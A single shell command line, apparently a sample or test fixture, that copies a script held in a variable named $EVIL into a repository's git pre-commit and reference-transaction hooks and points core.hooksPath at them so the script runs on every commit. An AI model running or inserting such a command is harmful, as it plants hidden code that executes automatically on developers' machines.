mkdir .husky && cp "$EVIL" .husky/pre-commit && cp "$EVIL" .husky/reference-transaction && git add -A && git commit -qm hooks && git config core.hooksPath .husky
